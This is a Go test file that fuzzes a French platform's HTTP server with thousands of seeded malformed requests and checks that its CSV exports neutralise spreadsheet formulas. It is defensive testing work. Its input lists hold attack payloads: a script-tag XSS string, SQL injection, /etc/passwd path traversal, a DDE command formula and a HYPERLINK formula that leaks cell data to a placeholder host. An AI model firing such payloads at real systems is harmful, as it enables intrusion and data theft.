package server_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/url"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"essor/internal/domain"
	"essor/internal/testenv"
)

// TestHostileRequests sends a few thousand generated bad requests to the
// real server over HTTP, on every route, as every role and anonymously,
// through the API and the pages: broken JSON, wrong types, NUL bytes,
// invalid UTF-8, control characters, huge or absurd values, odd ids and
// headers. None may answer 5xx or show an internal error; every API refusal
// has the error shape with a message. The generator is seeded: a failure
// names the request, and the same seed sends it again.
func TestHostileRequests(t *testing.T) {
	if testing.Short() {
		t.Skip("thousands of requests")
	}
	env := testenv.New(t)
	roles := []domain.Role{domain.RoleActor, domain.RoleOfficer, domain.RoleCommittee, domain.RoleAdmin, domain.RoleOrganiser, domain.RoleJury}
	type who struct {
		name    string
		token   string
		cookies map[string]string
		csrf    string
	}
	people := []who{{name: "anonyme", cookies: map[string]string{}}}
	var actor, officer, organiser testenv.Account
	for i, r := range roles {
		acc := env.Account(t, fmt.Sprintf("Organisation %d", i), r)
		b := newBrowser(t, env)
		b.signIn(acc.Email, acc.Password)
		people = append(people, who{name: string(r), token: acc.Token, cookies: b.cookies, csrf: b.token()})
		switch r {
		case domain.RoleActor:
			actor = acc
		case domain.RoleOfficer:
			officer = acc
		case domain.RoleOrganiser:
			organiser = acc
		}
	}
	env.Account(t, "Organisation 9", domain.RoleCommittee) // a quorum of two

	// Needs in several stages, for the actions to reach their validators.
	var ids []string
	for i, steps := range [][]map[string]any{
		nil,
		{{"action": "qualify"}},
		{{"action": "qualify"}, {"action": "start_study", "due_date": "2099-03-01"}},
		{{"action": "qualify"}, {"action": "start_study", "due_date": "2099-03-01"},
			{"action": "submit_study", "recommendation": "go", "summary": "Le modèle économique tient avec la CAF.", "budget_eur": 45000}},
	} {
		id := apiNeed(t, env, actor, fmt.Sprintf("Besoin de test numéro %d", i))
		apiAct(t, env, officer.Token, id, steps...)
		ids = append(ids, id)
	}

	// A need titled as a formula, for the exports read at the end.
	formula := `=HYPERLINK("http://x/?"&A1,"Cliquez")`
	apiNeed(t, env, actor, formula)

	// A Rally'nov round in identification, with an entry, for its routes.
	roundID := env.Do(t, "POST", "/api/v1/rally/rounds", organiser.Token, roundBody("Rally'nov hostile")).Expect(t, 201).Map(t)["id"].(string)
	for range 4 {
		env.Do(t, "POST", "/api/v1/rally/rounds/"+roundID+"/phase", organiser.Token, map[string]any{"action": "advance"}).Expect(t, 200)
	}
	entryID := env.Do(t, "POST", "/api/v1/rally/rounds/"+roundID+"/entries", actor.Token,
		rallyEntry("Coop Bois", "Ressourcerie du bois", "Emploi et insertion")).Expect(t, 201).Map(t)["id"].(string)
	ids = append(ids, roundID, entryID)
	// An organisation of the directory, for its routes and the invitations.
	orgID := env.Do(t, "POST", "/api/v1/organisations", officer.Token, map[string]any{"name": "Structure hostile", "legal_form": "association",
		"themes": []string{"mobility"}, "commune_code": "39198"}).Expect(t, 201).Map(t)["id"].(string)
	ids = append(ids, orgID)

	seed := uint64(2026) // ESSOR_HOSTILE_SEED sends another campaign
	if v, err := strconv.ParseUint(os.Getenv("ESSOR_HOSTILE_SEED"), 10, 64); err == nil {
		seed = v
	}
	rng := rand.New(rand.NewPCG(seed, 11))
	pick := func(xs []string) string { return xs[rng.IntN(len(xs))] }
	badText := []string{"\x00", "a\x00b", "\u0007", "\u0085", "\u202e", "\ufeff", "😀", strings.Repeat("é", 40000),
		"9999-12-31", "0000-00-00", "2027-02-30", "NaN", "-Inf", "1e400", "-1", "0", "<script>alert(1)</script>",
		"' OR 1=1 --", "../../etc/passwd", "%00", "\r\n\r\n", strings.Repeat("x", 300), "",
		`=HYPERLINK("http://x/?"&A1,"Cliquez ici")`, "+1+cmd|' /C calc'!A0 et la suite", "@SUM(1+1) pour voir"}
	badRaw := []string{"\xff", "\xc3\x28", "\xed\xa0\x80", "a\x00b"} // sent as raw bytes
	badJSON := []any{nil, true, 1e300, -1, 1.5, []any{}, map[string]any{}, []any{"\x00"}, map[string]any{"\x00": 1},
		strings.ToUpper(ids[0]), ids[1], "00000000-0000-0000-0000-000000000000"}
	fields := []string{"title", "description", "theme", "territory_code", "beneficiaries", "organisation", "evidence",
		"action", "comment", "reason", "into", "due_date", "recommendation", "summary", "decision", "contact",
		"motivation", "carrier_id", "territories", "start_date", "end_date", "budget_eur", "email", "password",
		"name", "roles", "role", "suite", "retour", "lang", "langue", "state", "active", "_key", "q", "stage",
		"territory", "limit", "cursor", "officer", "everywhere", "confirm", "officer_id", "indicators", "evaluation",
		"structure", "jobs_created", "funders", "key", "value", "at", "slug", "code", "label_fr", "label_en", "kind",
		"parent_code", "retired", "indicator_key", "indicator_target", "result_value", "funder_amount", "structure.siret",
		"phases", "categories", "criteria", "category", "scores", "count", "place", "day", "entry_ids", "entry_id",
		"identification_start", "criterion_label_0", "criterion_weight_0", "utility",
		"organisation_id", "message", "label", "seeking_carrier", "siret", "legal_form", "family", "themes", "commune_code", "website"}
	actions := append([]string{"support", "submit", "decide", "unknown"}, func() []string {
		var out []string
		for _, a := range domain.TransitionActions {
			out = append(out, string(a))
		}
		return out
	}()...)
	idLike := []string{ids[0], ids[1], ids[2], ids[3], ids[4], ids[4], ids[5], ids[5], ids[6], strings.ToUpper(ids[2]), "00000000-0000-4000-8000-000000000000",
		"abc", "%00", "%FF", "%C3%28", "%E2%80%AE", strings.Repeat("a", 2000), "..%2F..%2Fetc", "1", "%20"}

	value := func() any {
		switch rng.IntN(3) {
		case 0:
			return pick(badText)
		case 1:
			return badJSON[rng.IntN(len(badJSON))]
		}
		return pick(actions)
	}
	jsonBody := func() []byte {
		switch rng.IntN(8) {
		case 0:
			return []byte(pick([]string{"", "{", "null", "[]", `"x"`, `{"action":`, "{}{}", strings.Repeat("[", 20000),
				`{"title":"a","title":"b"}`, "\xff\xfe", `{"budget_eur": NaN}`, `{"budget_eur": 1e999}`}))
		case 1: // a raw invalid byte inside a JSON string
			return []byte(`{"action":"request_info","comment":"` + pick(badRaw) + `","title":"` + pick(badRaw) + `"}`)
		}
		m := map[string]any{"action": pick(actions)}
		if rng.IntN(2) == 0 {
			for k, v := range validNeed("Une crèche à horaires décalés") {
				m[k] = v
			}
		}
		for range 1 + rng.IntN(4) {
			m[pick(fields)] = value()
		}
		raw, _ := json.Marshal(m)
		return raw
	}
	formBody := func(csrf string) string {
		v := url.Values{}
		if csrf != "" && rng.IntN(6) != 0 {
			v.Set("_csrf", csrf)
		}
		v.Set("action", pick(actions))
		for range 1 + rng.IntN(5) {
			f := pick(fields)
			if rng.IntN(4) == 0 {
				v.Add(f, pick(badRaw))
			} else {
				v.Add(f, fmt.Sprint(value()))
			}
		}
		return v.Encode()
	}
	query := func() string {
		if rng.IntN(3) == 0 {
			return ""
		}
		v := url.Values{}
		for range 1 + rng.IntN(3) {
			v.Add(pick(fields), fmt.Sprint(value()))
		}
		q := v.Encode()
		if rng.IntN(3) == 0 {
			q += "&" + pick([]string{"q=%00", "q=%FF", "stage=%ED%A0%80", "limit=99999999999999999999", "cursor=%00", "%00=1", "q"})
		}
		return "?" + q
	}

	routes := env.Server.Routes()
	client := &http.Client{Timeout: 30 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	// Case-sensitive and with punctuation: pages carry random tokens (form
	// keys, CSRF) whose letters may spell anything, "PgX" included.
	internal := []string{"runtime error", "panic:", "goroutine ", "SQLSTATE", "pgx.", "pgx:", "pgconn", "sql: ", "invalid memory",
		"nil pointer", "temporal:", "Temporal", "workflow execution", "serviceerror"}
	const total = 3000
	statuses := map[int]int{}
	for i := range total {
		r := routes[rng.IntN(len(routes))]
		p := people[rng.IntN(len(people))]
		path := r[1]
		for _, param := range []string{":id", ":entry_id", ":entry", "*"} {
			for strings.Contains(path, param) {
				path = strings.Replace(path, param, pick(idLike), 1)
			}
		}
		api := strings.HasPrefix(path, "/api")
		var body []byte
		contentType := ""
		if r[0] != "GET" {
			if api && rng.IntN(8) != 0 || !api && rng.IntN(8) == 0 {
				body, contentType = jsonBody(), "application/json"
			} else {
				body, contentType = []byte(formBody(p.csrf)), "application/x-www-form-urlencoded"
			}
		}
		req, err := http.NewRequest(r[0], env.URL+path+query(), bytes.NewReader(body))
		if err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
		if contentType != "" {
			req.Header.Set("Content-Type", contentType)
		}
		if api && p.token != "" && rng.IntN(10) != 0 {
			req.Header.Set("Authorization", "Bearer "+p.token)
		}
		for name, val := range p.cookies {
			req.AddCookie(&http.Cookie{Name: name, Value: val})
		}
		if rng.IntN(5) == 0 {
			req.Header.Set("Idempotency-Key", pick([]string{"k-" + fmt.Sprint(rng.IntN(50)), strings.Repeat("k", 300), "clé", "\t"}))
		}
		if rng.IntN(5) == 0 {
			req.Header.Set("Accept-Language", pick([]string{"en", "de", "*", strings.Repeat("fr,", 500), "\u00e9"}))
		}
		resp, err := client.Do(req)
		if err != nil {
			t.Fatalf("request %d %s %s: %v", i, r[0], path, err)
		}
		raw, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		statuses[resp.StatusCode]++
		desc := fmt.Sprintf("request %d as %s: %s %s (%s %.200q)", i, p.name, r[0], req.URL.RequestURI(), contentType, body)
		if resp.StatusCode >= 500 {
			t.Fatalf("%s\n→ %d %.500s", desc, resp.StatusCode, raw)
		}
		for _, m := range internal {
			if resp.StatusCode >= 400 && strings.Contains(string(raw), m) {
				t.Fatalf("%s\n→ %d shows an internal detail (%q): %.500s", desc, resp.StatusCode, m, raw)
			}
		}
		if api && resp.StatusCode >= 400 {
			var e struct {
				Error struct{ Code, Message string }
			}
			if json.Unmarshal(raw, &e) != nil || e.Error.Code == "" || e.Error.Message == "" {
				t.Fatalf("%s\n→ %d without the error shape: %.500s", desc, resp.StatusCode, raw)
			}
		}
	}
	t.Logf("%d requests, statuses %v", total, statuses)

	// Whatever the campaign managed to record, no export hands a spreadsheet a formula.
	b := newBrowser(t, env)
	for _, path := range []string{"/besoins.csv", "/fonds-de-confiance.csv", "/appels.csv", "/rallye.csv", "/donnees-ouvertes/besoins.csv"} {
		rows := readExport(t, path, b.get(path).expect(t, 200).Body)
		if (path == "/besoins.csv" || strings.HasPrefix(path, "/donnees")) && !cellsOf(rows)["'"+formula] {
			t.Errorf("%s lacks the need titled %q, as text", path, formula)
		}
	}
	readExport(t, "/api/v1/indicators.csv", string(env.Do(t, "GET", "/api/v1/indicators.csv", "", nil).Expect(t, 200).Body))
}
